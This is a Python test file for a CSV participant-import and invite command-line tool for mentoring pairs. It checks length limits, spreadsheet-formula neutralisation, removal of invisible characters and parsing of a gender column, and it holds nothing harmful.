def test_a_name_that_grows_when_folded_is_refused_before_the_database(session, programme):
    report = run(session, programme, LONG_FOLDED)
    assert codes(report.errors) == [(2, Problem.KEY_TOO_LONG)]
    assert "too long" in render_report(report, EN)
    assert counts(session)["Participant"] == 0


def _postgres_schema_url(name: str) -> str:
    url = require_postgres_url()
    separator = "&" if "?" in url else "?"
    return f"{url}{separator}options=-csearch_path%3D{name}"  # a schema of its own: other tests go on


async def test_binome_import_and_invite_on_the_command_line(tmp_path):
    """The report in French with no English log line after it; the long names refused without a
    traceback on PostgreSQL too; `binome invite` lines that a spreadsheet shows as text."""
    import uuid

    from sqlalchemy import create_engine as raw_engine

    from storage.db import normalise_url
    from tests.test_processes import binome, clean_env

    schema = f"t_{uuid.uuid4().hex[:12]}"
    urls = [f"sqlite:///{tmp_path}/cli.sqlite3"]
    if postgres_url() is not None:
        urls.append(_postgres_schema_url(schema))
    for url in urls:
        admin = None
        if url.startswith("postgresql"):
            admin = raw_engine(normalise_url(url.split("?")[0]))
            with admin.begin() as connection:
                connection.exec_driver_sql(f"CREATE SCHEMA {schema}")
        try:
            env = clean_env(DATABASE_URL=url)
            assert (await binome("db", "upgrade", env=env, cwd=tmp_path))[0] == 0
            assert (await binome("program", "create", "Mentorat", env=env, cwd=tmp_path))[0] == 0
            long_file = tmp_path / "long.csv"
            long_file.write_text(LONG_FOLDED, encoding="utf-8")
            code, out, err = await binome("import", str(long_file), env=env, cwd=tmp_path)
            assert code == 1, out + err
            assert "Rien n'a été importé" in out and "ß" * 10 not in err
            assert "Traceback" not in err

            formulas = tmp_path / "formulas.csv"
            formulas.write_text(FORMULAS, encoding="utf-8")
            code, out, err = await binome("import", str(formulas), env=env, cwd=tmp_path)
            assert code == 0, out + err
            assert out.rstrip().endswith("2 binômes créés, 0 binôme inchangé.")
            assert "=, +, - ou @" in out
            assert err == ""  # the report is the last thing on the terminal: no log line in English
            code, out, err = await binome("invite", "--bot-username", "binome_bot", env=env, cwd=tmp_path)
            assert code == 0, err
            names = [line.split("\t")[0] for line in out.strip().splitlines()]
            assert len(names) == 4
            assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
        finally:
            if admin is not None:
                with admin.begin() as connection:
                    connection.exec_driver_sql(f"DROP SCHEMA {schema} CASCADE")
                admin.dispose()


def test_an_unexpected_import_failure_is_one_readable_line(tmp_path, monkeypatch, capsys, caplog):
    """Whatever fails inside the import, the terminal shows one line and the log the error's type."""
    import logging

    from sqlalchemy.exc import DataError

    from bot import cli

    url = f"sqlite:///{tmp_path}/x.sqlite3"
    monkeypatch.setenv("DATABASE_URL", url)
    engine = make_engine(url)
    upgrade(engine)
    with Session(engine) as s:
        create_programme(session=s, name="Mentorat", now=NOW)
        s.commit()
    engine.dispose()

    def explode(**kwargs):
        raise DataError("INSERT INTO participant (first_name) VALUES (%(first_name)s)",
                        {"first_name": "Zorgbibe"}, Exception("value too long for Zorgbibe"))

    monkeypatch.setattr(cli, "import_participants", explode)
    file = tmp_path / "f.csv"
    file.write_text("binome;rôle;prénom;nom\n", encoding="utf-8")
    caplog.set_level(logging.DEBUG)
    assert cli.main(["import", str(file)]) == 2
    captured = capsys.readouterr()
    assert len(captured.err.strip().splitlines()) == 1 and "DataError" in captured.err
    for text in (captured.out, captured.err, caplog.text):
        assert "Zorgbibe" not in text and "Traceback" not in text


def test_invisible_cells_count_as_missing_and_nul_is_dropped(session, programme):
    invisible = "\u200c\u2060\u00ad\ufeff\u200b\u3164"
    report = run(session, programme, "binome;role;prenom;nom;email;telephone\n"
                                     f"B1;mentor;{invisible};Durand;;\n"
                                     f"{invisible};mentee;Eva;Brun;;\n"
                                     "B2;mentor;Luc;Ve\u200brt;luc\u2060@example.be;+32\u00ad 470 12 34 56\n"
                                     "B2;mentee;Inès\u200f;Roux\x07;;\n")
    found = codes(report.errors)
    assert (2, Problem.MISSING_FIRST_NAME) in found and (3, Problem.MISSING_PAIR) in found
    assert not any(p.row in (4, 5) for p in report.errors)  # soft hyphen, zero-width, bidi mark, bell: gone
    # A UTF-8 file with a NUL byte is refused as binary; Excel's UTF-16 text can carry a NUL character.
    report = run(session, programme, ("binome\trole\tprenom\tnom\temail\ttelephone\r\n"
                                      "B2\tmentor\tLu\x00c\tVe\u200brt\tluc\u2060@example.be\t+32\u00ad 470 12 34 56\r\n"
                                      "B2\tmentee\tIne\u0300s\u200f\tRoux\x07\t\t\r\n").encode("utf-16"))
    assert report.ok, report.errors
    luc, ines = people(session)["Luc"], people(session)["Inès"]
    assert (luc.last_name, luc.email, luc.phone) == ("Vert", "luc@example.be", "+32 470 12 34 56")
    assert (ines.first_name, ines.last_name) == ("Inès", "Roux")  # NFC: one "è", not e + accent


def test_the_optional_gender_column_reads_letters_and_words_and_refuses_the_rest(session, programme):
    """f / m / x, or the usual French and English words; blank is fine; anything else is a problem of its row
    and nothing is written."""
    data = ("binôme;rôle;prénom;nom;genre\n"
            "G1;mentor;Léa;Roux;Femme\nG1;mentoré;Omar;Haddad;garçon\n"
            "G2;mentor;Sam;Lee;\nG2;mentoré;Noa;Blanc;x\n")
    report = run(session, programme, data)
    session.commit()
    assert report.ok, render_report(report, EN)
    found = people(session)
    assert {name: found[name].gender for name in ("Léa", "Omar", "Sam", "Noa")} == {
        "Léa": "f", "Omar": "m", "Sam": None, "Noa": "x"}
    refused = run(session, programme, "binôme;rôle;prénom;nom;genre\nG3;mentor;Zoé;Petit;licorne\n"
                                      "G3;mentoré;Eli;Gros;F\n")
    assert codes(refused.errors) == [(2, Problem.BAD_GENDER)]
    assert "Zoé" not in people(session)
